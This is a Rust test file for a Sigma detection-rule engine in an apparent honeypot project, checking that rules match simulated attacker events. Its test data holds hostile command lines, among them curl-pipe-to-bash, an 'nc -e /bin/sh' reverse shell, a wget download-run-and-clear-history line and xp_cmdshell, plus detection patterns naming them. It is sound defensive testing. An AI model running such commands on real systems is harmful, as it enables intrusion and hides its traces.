//! Rules of our own, in Sigma's words.

use std::time::Instant;

use super::*;

fn event(event_type: &str, service: &str, fields: &[(&str, &str)]) -> Event {
    let fields: serde_json::Map<String, serde_json::Value> =
        fields.iter().map(|(key, value)| ((*key).to_owned(), (*value).into())).collect();
    Event::example(event_type, service, &serde_json::Value::Object(fields).to_string())
}

fn command(command: &str) -> Event {
    event("command", "ssh", &[("command", command), ("cwd", "/root")])
}

fn request(method: &str, path: &str, more: &[(&str, &str)]) -> Event {
    let mut fields = vec![("method", method), ("path", path), ("host", "shop.example"), ("status", "404")];
    fields.extend(more);
    event("request", "http", &fields)
}

/// A rule with this log source and detection.
fn rule(key: &str, source: &str, detection: &str) -> Text {
    let content = format!(
        "title: {key}\nid: 5f2cf8f4-7f0a-4f7c-9a3d-6a7d2a9d0001\nstatus: test\ndescription: Why {key} is one.\n\
         tags:\n  - attack.execution\n  - attack.t1059.004\n  - attack.T1059.004\nlogsource:\n{source}\n\
         detection:\n{detection}\nlevel: high\n"
    );
    Text { key: key.into(), name: key.into(), author: "Ana".into(), content, ..Text::default() }
}

const UNIX: &str = "  category: process_creation\n  product: linux";

fn unix(detection: &str) -> Set {
    used(vec![rule("one", UNIX, detection)])
}

fn used(rules: Vec<Text>) -> Set {
    let set = Set::compile(rules);
    let problems: Vec<_> = set.all().iter().filter(|rule| rule.problem.is_some()).collect();
    assert!(problems.is_empty(), "{problems:?}");
    set
}

fn holds_for(set: &Set, event: &Event) -> bool {
    !set.of(event).is_empty()
}

#[test]
fn a_command_line_is_seen_as_its_processes() {
    let set = unix(
        "  selection:\n    Image|endswith: '/wget'\n    CommandLine|contains|all:\n      - '-q'\n      - 'http'\n  filter:\n    CommandLine|contains: 'mirror.example'\n  condition: selection and not filter",
    );
    assert!(holds_for(&set, &command("cd /tmp; /usr/bin/wget -q http://192.0.2.1/x")));
    assert!(holds_for(&set, &command("sudo sh -c 'WGET -Q HTTP://192.0.2.1'")), "whatever the letters");
    assert!(!holds_for(&set, &command("wget -q ftp://192.0.2.1/x")));
    assert!(!holds_for(&set, &command("wget -q http://mirror.example/x")));
    assert!(!holds_for(&set, &command("echo wget -q http")));
    let text = [("command", "wget -q http://192.0.2.1/x")];
    assert!(!holds_for(&set, &event("query", "ssh", &text)) && !holds_for(&set, &event("command", "ftp", &text)));
    let found = set.of(&command("wget -q http://192.0.2.1/x"));
    assert_eq!((found[0].key.as_str(), found[0].reason.as_str()), ("one", "Why one is one."));
    assert_eq!(found[0].techniques, ["T1059.004"]);
}

#[test]
fn the_whole_line_and_who_runs_it_are_seen_too() {
    let set = unix("  selection:\n    CommandLine|re: 'curl.+\\|\\s*(ba)?sh'\n  condition: selection");
    assert!(holds_for(&set, &command("curl http://192.0.2.1/x | bash")));
    let set =
        unix("  selection:\n    ParentImage|endswith: '/sudo'\n    Image|endswith: '/id'\n  condition: selection");
    assert!(holds_for(&set, &command("sudo id")) && !holds_for(&set, &command("id")));
    let words = used(vec![rule("words", "  product: linux", "  keywords:\n    - 'nc -e *'\n  condition: keywords")]);
    assert!(holds_for(&words, &command("nc -e /bin/sh 192.0.2.1")) && !holds_for(&words, &command("nc -l")));
    let audit = "  product: linux\n  service: auditd";
    let set = used(vec![rule("audit", audit, "  s:\n    type: EXECVE\n    a0: base64\n    a1: '-d'\n  condition: s")]);
    assert!(holds_for(&set, &command("echo aWQ= | base64 -d")) && !holds_for(&set, &command("base64 x")));
}

#[test]
fn a_line_of_windows_is_one_of_windows() {
    let windows = "  category: process_creation\n  product: windows";
    let any = "  category: process_creation";
    let detection = "  s:\n    Image|endswith: '\\whoami.exe'\n    CommandLine|contains: '/all'\n  condition: s";
    let line = event("command", "ssh", &[("command", "cmd /c whoami /all"), ("cwd", r"C:\Users\ana")]);
    let set = used(vec![rule("w", windows, detection)]);
    assert!(holds_for(&set, &line) && !holds_for(&set, &command("whoami /all")));
    // A rule without a product is for the first that fits.
    let set = used(vec![rule("any", any, "  s:\n    CommandLine|contains: 'whoami'\n  condition: s")]);
    assert!(holds_for(&set, &command("whoami")));
}

#[test]
fn requests_and_files_and_queries_are_seen() {
    let detection = "  s:\n    cs-method: POST\n    cs-uri-query|contains: '/cgi-bin/'\n    cs-uri-stem|endswith: '.sh'\n    sc-status: 404\n  condition: s";
    let set = used(vec![rule("web", "  category: webserver", detection)]);
    assert!(holds_for(&set, &request("POST", "/cgi-bin/a.sh?x=1", &[])));
    assert!(!holds_for(&set, &request("GET", "/cgi-bin/a.sh", &[])));
    assert!(!holds_for(&set, &request("POST", "/cgi-bin/a.pl", &[])));
    let detection = "  s:\n    c-useragent|startswith: 'sqlmap/'\n    c-uri|contains: '://shop.example/'\n    c-uri-extension: php\n  condition: s";
    let set = used(vec![rule("proxy", "  category: proxy", detection)]);
    assert!(holds_for(&set, &request("GET", "/a.b/index.php?id=1", &[("user_agent", "sqlmap/1.8")])));
    assert!(!holds_for(&set, &request("GET", "/a.b/index.php?id=1", &[])));
    let file = "  category: file_event\n  product: linux";
    let set = used(vec![rule("file", file, "  s:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: s")]);
    assert!(holds_for(&set, &event("file_captured", "ssh", &[("path", "/etc/cron.d/x")])));
    assert!(!holds_for(&set, &event("file_captured", "ssh", &[("name", "/etc/cron.d/x")])));
    let words = "  keywords:\n    - 'xp_cmdshell'\n  condition: keywords";
    let set = used(vec![rule("sql", "  category: database", words)]);
    assert!(holds_for(&set, &event("query", "mssql", &[("query", "EXEC Xp_CmdShell 'id'")])));
}

#[test]
fn what_cannot_be_used_says_why() {
    let selection = "  s:\n    CommandLine|contains: 'x'\n";
    let wrong = |source: &str, detection: &str| {
        let set =
            Set::compile(vec![rule("a", source, detection), rule("b", UNIX, &format!("{selection}  condition: s"))]);
        assert!(set.all()[1].problem.is_none() && holds_for(&set, &command("x")));
        set.all()[0].problem.clone().unwrap()
    };
    let condition = |text: &str| wrong(UNIX, &format!("{selection}  condition: {text}"));
    assert!(condition("nobody").contains("nobody"));
    assert!(condition("all of nobody_*").contains("nobody_*"));
    assert!(condition("s and not all of nobody_*").contains("nobody_*"));
    assert!(condition("not s").contains("say nothing"));
    assert!(condition("((").contains("ondition"));
    assert!(wrong(UNIX, "  s:\n    CommandLine|re: '('\n  condition: s").contains("regex"));
    assert!(wrong(UNIX, "  s:\n    CommandLine|sideways: 'x'\n  condition: s").contains("sideways"));
    assert!(wrong("  product: cisco", &format!("{selection}  condition: s")).contains("log source"));
    assert!(wrong("  definition: any", &format!("{selection}  condition: s")).contains("log source"));
    for (content, problem) in [
        ("", "64 KiB"),
        ("title: [", "YAML"),
        ("just text", "mapping"),
        (
            "title: a\ncorrelation:\n  type: event_count\n  rules: [b]\n  group-by: [x]\n  timespan: 1m\n  condition:\n    gte: 3\n",
            "correlation",
        ),
    ] {
        let set = Set::compile(vec![Text { key: "a".into(), content: content.into(), ..Text::default() }]);
        let said = set.all()[0].problem.clone().unwrap();
        assert!(said.contains(problem), "{content}: {said}");
    }
    let text = rule("a", UNIX, &format!("{selection}  condition: s"));
    let untagged = Text { content: text.content.replace("t1059.004", "s0001").replace("T1059.004", "g0001"), ..text };
    assert!(Set::compile(vec![untagged]).all()[0].problem.clone().unwrap().contains("technique"));
}

#[test]
fn what_is_looked_at_is_bounded() {
    let regex = |n: usize| rule(&format!("r{n:04}"), UNIX, "  s:\n    CommandLine|re: '^x+$'\n  condition: s");
    let set = Set::compile((0..MAX_ALWAYS + 20).map(regex).collect());
    assert_eq!(set.all().iter().filter(|rule| rule.problem.is_some()).count(), 20);
    assert_eq!(set.of(&command("xx")).len(), MAX_ALWAYS);
    let plain = |n: usize| rule(&format!("p{n:04}"), UNIX, "  s:\n    CommandLine|contains: 'x'\n  condition: s");
    let set = used((0..MAX_EVALUATED + 50).map(plain).collect());
    assert_eq!(set.of(&command("x")).len(), MAX_EVALUATED);
    assert_eq!(set.of(&command(&"x".repeat(4_000))).len(), MAX_EVALUATED);
    let set = Set::compile((0..MAX_RULES + 1).map(|_| Text::default()).collect());
    assert_eq!(set.all().len(), MAX_RULES);
}

#[test]
fn no_rule_is_missed_for_a_text_that_it_does_not_need() {
    // Each of them holds, by another way to say so.
    for detection in [
        "  s:\n    CommandLine:\n      - 'nobody'\n      - 'UNAME -a'\n  condition: s",
        "  s:\n    - CommandLine|startswith: 'unam'\n    - Image: '/bin/nothing'\n  condition: s",
        "  a:\n    CommandLine|contains: 'zzz'\n  b:\n    Image|endswith: 'name'\n  condition: a or b",
        "  a:\n    CommandLine|contains: 'zzz'\n  b:\n    Image|endswith: 'name'\n  condition: not a and b",
        "  a_1:\n    CommandLine|contains: 'zzz'\n  a_2:\n    Image|endswith: 'name'\n  condition: 1 of a_*",
        "  a_1:\n    CommandLine|contains: '-a'\n  a_2:\n    Image|endswith: 'name'\n  condition: all of them",
        "  s:\n    CommandLine|re: '^un'\n    Image|contains: 'uname'\n  condition: s",
        "  s:\n    CommandLine|contains: ['q1', 'q2', 'q3', 'q4', 'q5', 'q6', 'q7', 'q8', 'q9', 'NAME']\n  condition: s",
        "  s:\n    CommandLine|contains|windash: ' -a'\n  condition: s",
        "  s:\n    CommandLine: '*name*'\n  condition: s",
        "  s:\n    CommandLine|contains|cased: 'uname'\n    ParentImage: null\n  condition: s",
    ] {
        assert!(holds_for(&unix(detection), &command("uname -a")), "{detection}");
    }
}

/// What it costs, with the rules that are published; ignored, for whoever works on that:
/// `AEGIS_SIGMA=folder cargo test --release -p aegis-deception sigma::tests::speed -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement"]
fn speed() {
    let mut folders = vec![std::path::PathBuf::from(std::env::var("AEGIS_SIGMA").unwrap())];
    let mut texts = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|extension| extension == "yml") {
                let content = std::fs::read_to_string(&path).unwrap();
                texts.push(Text { key: path.to_string_lossy().into_owned(), content, ..Text::default() });
            }
        }
    }
    // As the database has them.
    texts.sort_by(|one, two| one.key.cmp(&two.key));
    let resident = || {
        let status = std::fs::read_to_string("/proc/self/status").unwrap();
        status.lines().find(|line| line.starts_with("VmRSS")).unwrap().to_owned()
    };
    let (all, before, started) = (texts.len(), resident(), Instant::now());
    let set = Set::compile(texts);
    println!("{before} before, {} after", resident());
    let used = set.all().iter().filter(|rule| rule.problem.is_none()).count();
    println!("{used} of {all} rules are used; read in {:?}", started.elapsed());
    let mut problems: HashMap<&str, usize> = HashMap::new();
    for problem in set.all().iter().filter_map(|rule| rule.problem.as_deref()) {
        *problems.entry(problem).or_default() += 1;
    }
    println!("{problems:#?}");
    for filled in &set.filled {
        let source = filled.source;
        println!(
            "{}/{}/{}: {} texts, {} rules always",
            source.category,
            source.product,
            source.service,
            filled.by_text.len(),
            filled.always.len()
        );
    }
    let windows = event("command", "ssh", &[("command", "whoami /all & net user"), ("cwd", r"C:\Users\ana")]);
    let login = event("auth_fail", "ssh", &[("username", "root"), ("password", "x")]);
    for (what, event) in [
        ("a login", login),
        ("a command", command("uname -a")),
        ("a line", command("cd /tmp; wget http://192.0.2.1/x.sh -O x; chmod +x x; ./x; rm -f x; history -c")),
        ("a long line", command(&format!("echo {}", "a1b2 -c /".repeat(400)))),
        ("a line of Windows", windows),
        ("a request", request("GET", "/index.php?s=/index/think/app", &[("user_agent", "Mozilla/5.0 zgrab/0.x")])),
    ] {
        let found: Vec<&str> = set.of(&event).iter().map(|rule| rule.key.rsplit('/').next().unwrap()).collect();
        let started = Instant::now();
        for _ in 0..1_000 {
            std::hint::black_box(set.of(std::hint::black_box(&event)));
        }
        println!("{what}: {:?} each; {found:?}", started.elapsed() / 1_000);
    }
}
